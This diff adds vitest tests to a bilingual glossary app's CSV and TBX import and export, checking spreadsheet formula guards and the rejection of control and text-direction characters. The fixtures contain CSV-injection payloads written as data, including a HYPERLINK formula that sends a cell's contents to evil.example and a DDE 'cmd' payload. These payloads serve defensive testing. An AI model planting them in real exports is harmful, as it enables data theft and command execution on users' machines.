@@ -1,3 +1,4 @@
+import { parse } from "csv-parse/sync";
 import { beforeEach, describe, expect, it } from "vitest";
 import { db } from "@/lib/db";
 import { newTermSchema, type NewTerm } from "@/lib/glossary/new-term";
@@ -45,6 +46,57 @@ describe.each([
   });
 });
 
+/** A term whose every cell a spreadsheet would otherwise run as a formula, or nearly. */
+const formulas: NewTerm = {
+  slug: "formule",
+  kind: "concept",
+  termIt: '=HYPERLINK("http://evil.example/?d="&A1,"Clic")',
+  termEn: "+1",
+  abbreviation: "@SUM(1)",
+  expansionIt: "-2",
+  expansionEn: "＝1+1",
+  definitionIt: "'=già con l’apostrofo",
+  definitionEn: "''+two apostrophes",
+  formsIt: ["-2", "'ndrangheta"],
+  formsEn: ["@A1", "cmd|' /C calc'!A0"],
+};
+
+describe("glossary CSV for spreadsheets", () => {
+  it("opens with a UTF-8 byte-order mark, so that Excel reads the accents, and reads its own file back", () => {
+    const csv = writeGlossaryCsv(seedTerms);
+    expect(csv.startsWith("\uFEFFslug,kind,termIt,")).toBe(true);
+    expect(readTerms(csv, "glossary.csv")).toEqual(seedTerms);
+  });
+
+  it("writes no cell a spreadsheet would run as a formula, and reads every cell back as it was", () => {
+    const term = newTermSchema.parse(formulas);
+    const csv = writeGlossaryCsv([term]);
+    const [, row] = parse(csv.replace(/^\uFEFF/, "")) as string[][];
+    // Each cell as a spreadsheet sees it: none opens with = + - @ (or their full-width forms).
+    expect(row?.filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell))).toEqual([]);
+    expect(row?.slice(2, 7)).toEqual([`'${term.termIt}`, "'+1", "'@SUM(1)", "'-2", "'＝1+1"]);
+    // Text that itself opens with apostrophes before a formula character gets one more.
+    expect(row?.slice(7, 11)).toEqual(["''=già con l’apostrofo", "'''+two apostrophes", "'-2\n'ndrangheta", "'@A1\ncmd|' /C calc'!A0"]);
+    expect(readTerms(csv, "formulas.csv")).toEqual([term]);
+  });
+
+  it("reads a spreadsheet's CSV saved with a byte-order mark and formula guards", () => {
+    const csv = "\uFEFFtermIt,termEn,definitionIt,definitionEn\r\n'=Città,'-Town,'@Definizione è qui,'Plain 'apostrophe\r\n";
+    expect(readTerms(csv, "excel.csv")).toEqual([
+      {
+        slug: "citta",
+        kind: "concept",
+        termIt: "=Città",
+        termEn: "-Town",
+        definitionIt: "@Definizione è qui",
+        definitionEn: "'Plain 'apostrophe",
+        formsIt: ["=Città"],
+        formsEn: ["-Town"],
+      },
+    ]);
+  });
+});
+
 describe("glossary CSV from people and spreadsheets", () => {
   it("needs only the headwords and definitions; slug, kind and forms follow from them", () => {
     const csv = 'termIt,termEn,definitionIt,definitionEn\r\n"Forze Armate, italiane","Armed Forces","Le forze ""armate"".","The armed forces."\r\n';
@@ -76,6 +128,31 @@ describe("glossary CSV from people and spreadsheets", () => {
     expect(message("termIt,termEn,definitionIt,definitionEn,kind\na,b,c,d,animal\n")).toMatch(/^invalid-csv: terms\.csv: row 2 was refused: .*kind/s);
     expect(message('termIt,termEn,definitionIt,definitionEn\n"a,b,c,d\n')).toMatch(/^invalid-csv: terms\.csv is not valid CSV/);
     expect(message("termIt,termEn,definitionIt,definitionEn\na,b,c,d\na,e,f,g\n")).toContain('row 3 has the slug "a", like a row before it');
+  });
+
+  it("refuses control characters, direction controls and line breaks in headwords, as typed text would be", () => {
+    const message = (row: string) => {
+      try {
+        readExchangeFile(utf8(`termIt,termEn,definitionIt,definitionEn,formsEn\n${row}\n`), "terms.csv");
+      } catch (error) {
+        if (error instanceof ImportError) return `${error.code}: ${error.message}`;
+      }
+      return "accepted";
+    };
+    expect(message("a,b\u202E,c,d,e")).toMatch(/^invalid-csv: terms\.csv: row 2 was refused: .*direction control.*termEn/s);
+    expect(message("a,b,c\u2067,d,e")).toMatch(/direction control.*definitionIt/s);
+    expect(message("a,b,c,d,\u200Fe")).toMatch(/direction control.*formsEn/s);
+    expect(message("a,b,c,d\u0085,e")).toMatch(/control character.*definitionEn/s);
+    expect(message('"a\nb",b,c,d,e')).toMatch(/one line.*termIt/s);
+    // A definition may run over lines.
+    expect(message('a,b,"c\nc",d,e')).toBe("accepted");
+
+    const tbx = (termEn: string) =>
+      `<martif type="TBX-Basic"><text><body><termEntry id="a"><langSet xml:lang="it"><descrip type="definition">Def</descrip><tig><term>A</term></tig></langSet><langSet xml:lang="en"><descrip type="definition">Def</descrip><tig><term>${termEn}</term></tig></langSet></termEntry></body></text></martif>`;
+    expect(() => readExchangeFile(utf8(tbx("B&#x202E;")), "terms.tbx")).toThrow(/direction control.*termEn/s);
+    expect(() => readExchangeFile(utf8(tbx("B&#x9F;")), "terms.tbx")).toThrow(/control character.*termEn/s);
+    expect(() => readExchangeFile(utf8(tbx("B&#1;")), "terms.tbx")).toThrow("names no character XML allows");
+    expect(readExchangeFile(utf8(tbx("B")), "terms.tbx")).toMatchObject({ kind: "terms", terms: [{ termEn: "B" }] });
   });
 });
 
@@ -109,6 +186,7 @@ describe("storeTerms", () => {
     const invalid = { ...second, definitionIt: "" };
     await expect(storeTerms(db, [{ ...first, termEn: "Changed" }, invalid])).rejects.toThrow(/definitionIt/);
     await expect(storeTerms(db, [second, { ...second, termEn: "Again" }])).rejects.toThrow(`"${second.slug}" is used by more than one term`);
+    await expect(storeTerms(db, [{ ...second, definitionEn: "Reads \u202Eebisni\u202C differently." }])).rejects.toThrow(/direction control/);
     expect(await snapshotTables(db)).toEqual(before);
   });
 });
